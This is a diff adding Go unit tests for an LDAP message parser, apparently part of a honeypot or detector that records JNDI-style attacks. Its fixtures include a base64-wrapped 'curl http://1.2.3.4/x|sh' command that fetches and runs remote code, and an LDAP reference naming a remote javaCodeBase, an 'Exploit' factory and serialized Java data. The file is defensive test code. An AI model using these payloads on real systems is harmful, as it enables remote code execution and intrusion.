@@ -0,0 +1,61 @@
+package tcp
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/base64"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseLDAPBind(t *testing.T) {
+	bind := append(berTLV(0x02, []byte{3}), berTLV(0x04, []byte("cn=admin,dc=corp,dc=local"))...)
+	bind = append(bind, berTLV(0x80, []byte("secret"))...)
+	data := ldapEnvelope(1, berTLV(ldapBindRequest, bind))
+
+	raw, err := readLDAPMessage(bufio.NewReader(bytes.NewReader(data)))
+	require.NoError(t, err)
+	msg, _, err := parseLDAPMessage(raw)
+	require.NoError(t, err)
+	require.Equal(t, "bind", msg.Operation)
+	require.Equal(t, "cn=admin,dc=corp,dc=local", msg.DN)
+	require.Equal(t, "secret", msg.Password)
+	require.Equal(t, ldapResult(1, ldapBindResponse, 0, ""), ldapResponse(msg))
+}
+
+func TestParseLDAPSearch(t *testing.T) {
+	command := "curl http://1.2.3.4/x|sh"
+	search := berTLV(0x04, []byte("Basic/Command/Base64/"+base64.StdEncoding.EncodeToString([]byte(command))))
+	search = append(search, berTLV(0x0a, []byte{0})...)
+	search = append(search, berTLV(0x0a, []byte{0})...)
+	search = append(search, berTLV(0x02, []byte{0})...)
+	search = append(search, berTLV(0x02, []byte{0})...)
+	search = append(search, berTLV(0x01, []byte{0})...)
+	filter := append(berTLV(0x87, []byte("objectClass")), berTLV(0xa3, append(berTLV(0x04, []byte("cn")), berTLV(0x04, []byte("x"))...))...)
+	search = append(search, berTLV(0xa0, filter)...)
+	search = append(search, berTLV(0x30, berTLV(0x04, []byte("javaClassName")))...)
+
+	msg, _, err := parseLDAPMessage(ldapEnvelope(2, berTLV(ldapSearchRequest, search)))
+	require.NoError(t, err)
+	require.Equal(t, "search", msg.Operation)
+	require.Equal(t, "(&(objectClass=*)(cn=x))", msg.Filter)
+	require.Equal(t, []string{"javaClassName"}, msg.Attributes)
+	require.Equal(t, &jndiLookup{Command: command}, msg.Lookup)
+}
+
+func TestParseLDAPAddReference(t *testing.T) {
+	attr := func(name, value string) []byte {
+		return berTLV(0x30, append(berTLV(0x04, []byte(name)), berTLV(0x31, berTLV(0x04, []byte(value)))...))
+	}
+	attrs := append(attr("javaCodeBase", "http://1.2.3.4:8180/"), attr("javaFactory", "Exploit")...)
+	attrs = append(attrs, attr("javaSerializedData", "\xac\xed\x00\x05")...)
+	add := append(berTLV(0x04, []byte("cn=a")), berTLV(0x30, attrs)...)
+
+	msg, serialized, err := parseLDAPMessage(ldapEnvelope(3, berTLV(ldapAddRequest, add)))
+	require.NoError(t, err)
+	require.Equal(t, "http://1.2.3.4:8180/", msg.Lookup.CodeBase)
+	require.Equal(t, "Exploit", msg.Lookup.Factory)
+	require.Equal(t, []byte("\xac\xed\x00\x05"), serialized)
+	require.Equal(t, []string{"4 bytes"}, msg.Values["javaSerializedData"])
+}